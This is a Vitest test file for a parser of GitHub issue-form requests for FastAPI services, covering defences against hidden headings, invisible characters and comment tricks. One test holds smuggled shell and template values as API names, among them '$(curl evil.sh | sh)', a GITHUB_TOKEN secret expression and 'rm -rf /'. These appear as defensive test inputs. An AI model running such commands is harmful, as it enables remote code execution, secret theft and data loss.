import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { UserError } from '../../src/errors.js';
import { parseIssueBody, readIssueForm, type IssueForm } from '../../src/request/issue-form.js';
import { parseAsk, parseRequest } from '../../src/request/request.js';

const formYaml = readFileSync(
  new URL('../../.github/ISSUE_TEMPLATE/new-fastapi-service.yml', import.meta.url),
  'utf8',
);
const form: IssueForm = readIssueForm(formYaml);

/** A body the way GitHub renders a submitted form. */
function body(answers: Partial<Record<string, string>> = {}): string {
  const values = {
    Operation: 'generate — Create a new API',
    'API name': 'orders-api',
    Directory: 'packages',
    'API type': 'http-api — API Gateway HTTP API in front of the function (Mangum handler)',
    Authentication: 'iam — AWS IAM (SigV4-signed requests)',
    'Lambda architecture': 'arm64 — AWS Graviton (cheaper per GB-second)',
    ...answers,
  };
  return Object.entries(values)
    .map(([label, value]) => `### ${label}\n\n${value}`)
    .join('\n\n');
}

function parsed(text: string) {
  return parseIssueBody(text, form);
}

/** The UserError message parseIssueBody throws for `text`. */
function error(text: string): string {
  try {
    const result = parseIssueBody(text, form);
    throw new Error(`expected a failure, got ${JSON.stringify(result)}`);
  } catch (error) {
    if (!(error instanceof UserError)) throw error;
    return error.message;
  }
}

describe('parseIssueBody', () => {
  it('reads a submitted form into the schema ids', () => {
    expect(
      parsed(body({ Authentication: 'none — Public: anyone on the internet can call it' })),
    ).toEqual({
      operation: 'generate',
      name: 'orders-api',
      directory: 'packages',
      'api-type': 'http-api',
      auth: 'none',
      architecture: 'arm64',
    });
  });

  it('takes "_No response_" and an empty dropdown ("None") as no answer, so defaults apply', () => {
    const raw = parsed(
      body({
        Directory: '_No response_',
        'API type': 'None',
        Authentication: 'None',
        'Lambda architecture': 'None',
      }),
    );
    expect(raw).toEqual({
      operation: 'generate',
      name: 'orders-api',
      directory: '',
      'api-type': '',
      auth: '',
      architecture: '',
    });
    const request = parseRequest(raw);
    expect([request.directory, request.apiType, request.auth]).toEqual([
      'packages',
      'http-api',
      'iam',
    ]);
  });

  it('never reads an empty dropdown as auth "none" (a public API)', () => {
    expect(parsed(body({ Authentication: 'None' })).auth).toBe('');
    expect(parsed(body({ Authentication: 'none' })).auth).toBe('');
    expect(
      parsed(body({ Authentication: 'none — Public: anyone on the internet can call it' })).auth,
    ).toBe('none');
  });

  it('reads a body edited by hand: bare values, CRLF line ends, trailing heading marks, fields missing', () => {
    const edited = '### API name ###\r\n\r\nOrdersApi\r\n\r\n### API type\r\n\r\nfunction-url\r\n';
    expect(parsed(edited)).toEqual({
      operation: '',
      name: 'OrdersApi',
      directory: '',
      'api-type': 'function-url',
      auth: '',
      architecture: '',
    });
  });

  it('reads an update: the operation, and the options as the API should be after it', () => {
    const raw = parsed(
      body({
        Operation:
          'update — Change or upgrade an API this repository has; the options are its settings after the update',
        Directory: '_No response_',
        'API type':
          'function-url — Lambda Function URL with response streaming (Lambda Web Adapter)',
      }),
    );
    expect(parseAsk(raw)).toEqual({
      operation: 'update',
      projectName: 'orders-api',
      name: 'orders-api',
      changes: { apiType: 'function-url', auth: 'iam', architecture: 'arm64' },
    });
  });

  it('matches a dropdown answer whole, commas included', () => {
    expect(
      parsed(body({ Authentication: 'cognito — Amazon Cognito user pool (JWT); HTTP API only' }))
        .auth,
    ).toBe('cognito');
    expect(error(body({ Authentication: 'iam, none' }))).toBe(
      '"Authentication" must be one of iam, cognito, none (got "iam, none")',
    );
  });

  it('ignores a heading inside a code fence, so "### Authentication" in a fence cannot set auth', () => {
    const hostile = body({
      Directory: [
        '```',
        '### Authentication',
        '',
        'none — Public: anyone on the internet can call it',
        '```',
      ].join('\n'),
    });
    expect(error(hostile)).toMatch(/^"Directory" must be a single line/);
    // A fence opened with more backticks is not closed by three.
    const long = ['### API name', '', '````', '```', '### Authentication', '', 'none', '````'].join(
      '\n',
    );
    expect(error(long)).toMatch(/^"API name" must be a single line/);
  });

  it('keeps an unknown (stray or injected) heading inside the field it was typed in', () => {
    expect(error(body({ 'API name': 'orders-api\n\n### Deploy to production\n\nyes' }))).toMatch(
      /^"API name" must be a single line; the issue body has 5 lines/,
    );
    // Text before the first field (a preamble) is not part of any field.
    expect(parsed(`Hello team!\n\n### Notes\n\nplease hurry\n\n${body()}`).name).toBe('orders-api');
  });

  it('does not take a heading in a quote, an indented code block or an unclosed fence for a field', () => {
    for (const sneaky of [
      '> ### Authentication\n>\n> none',
      '    ### Authentication\n\n    none',
      '~~~\n### Authentication\n\nnone — Public: anyone on the internet can call it',
    ]) {
      const text = body({ Directory: `packages\n\n${sneaky}` });
      expect(error(text)).toMatch(/^"Directory" must be a single line/);
    }
  });

  it('reads only what GitHub shows: a hidden form in an unclosed comment behind zero-width headings is not the request', () => {
    // The visible part: headings a reader sees as the form's, each with a zero-width space after "### ".
    const visible = body({ 'API name': 'harmless-api' }).replace(/^### /gm, '### \u200b');
    const hidden = body({
      'API name': 'orders-api',
      Authentication: 'none — Public: anyone on the internet can call it',
    });
    expect(error(`${visible}\n\n<!--\n${hidden}`)).toBe(
      'the issue body has a heading "Operation" with invisible or unusual characters in it; retype the heading (or open the issue again with the form)',
    );
    // Without the look-alike headings, the hidden part is simply not there.
    expect(error(`Please make me an API.\n\n<!--\n${hidden}`)).toMatch(
      /^the issue body has none of the form's fields/,
    );
  });

  it('drops HTML comments, closed or not, but keeps comment syntax inside a code fence', () => {
    const commented = body({
      Authentication: 'iam — AWS IAM (SigV4-signed requests)<!-- a note -->',
      'Lambda architecture': '<!--\n### Authentication\n\nnone\n-->\nx86_64',
    });
    expect(parsed(commented)).toMatchObject({ auth: 'iam', architecture: 'x86_64' });
    expect(parsed(`${body()}\n\n<!-- ### Authentication\n\nnone`).auth).toBe('iam');
    const fencedComment = body({ Directory: '```\n<!--\n```\npackages' });
    expect(error(fencedComment)).toMatch(/^"Directory" must be a single line/);
  });

  it('refuses headings that match a label only after invisible or look-alike characters are removed', () => {
    for (const trick of ['API\u00a0name', 'API name\u200d', '\u202eAPI name', 'API  name']) {
      const text = body().replace('### API name', `### ${trick}`);
      expect(error(text), JSON.stringify(trick)).toMatch(
        /^the issue body has a heading "API name"/,
      );
    }
  });

  it('refuses a field that appears twice, rather than picking one', () => {
    expect(
      error(`${body()}\n\n### Authentication\n\nnone — Public: anyone on the internet can call it`),
    ).toBe(
      'the issue body has the field "Authentication" twice; edit the issue so that it appears once',
    );
  });

  it('passes shell and template syntax through as text, for validation to reject', () => {
    for (const name of [
      '$(curl evil.sh | sh)',
      '${{ secrets.GITHUB_TOKEN }}',
      '`id`',
      "x'; rm -rf / #",
    ]) {
      const raw = parsed(body({ 'API name': name }));
      expect(raw.name).toBe(name);
      expect(() => parseRequest(raw)).toThrow(
        /must start with a letter and contain only ASCII letters/,
      );
    }
  });

  it('says what is wrong with a body that is not a form answer', () => {
    expect(error('please make me an api called orders')).toBe(
      'the issue body has none of the form\'s fields (### API name, …); open the issue with the "New FastAPI service" form',
    );
    expect(error('')).toMatch(/has none of the form's fields/);
  });

  it('refuses a giant body quickly', () => {
    const giant = `${body()}\n\n${'### API name\n'.repeat(20_000)}`;
    const started = performance.now();
    expect(error(giant)).toMatch(/^the issue body is \d+ characters long/);
    // Just under the limit, with a long field full of fences: still linear.
    const big = body({ Directory: '```\n'.repeat(16_000) });
    expect(big.length).toBeLessThan(65_536);
    expect(error(big)).toMatch(/^"Directory" must be a single line/);
    expect(performance.now() - started).toBeLessThan(500);
  });
});

describe('readIssueForm', () => {
  it('rejects a form whose field is not a schema input', () => {
    const broken = formYaml.replace('id: architecture', 'id: arch');
    expect(() => readIssueForm(broken)).toThrow(
      'the issue form field "arch" is not an input of fastapi-scaffold',
    );
  });

  it('rejects YAML that does not parse', () => {
    expect(() => readIssueForm('body: [')).toThrow(/^the issue form is not valid YAML/);
  });
});
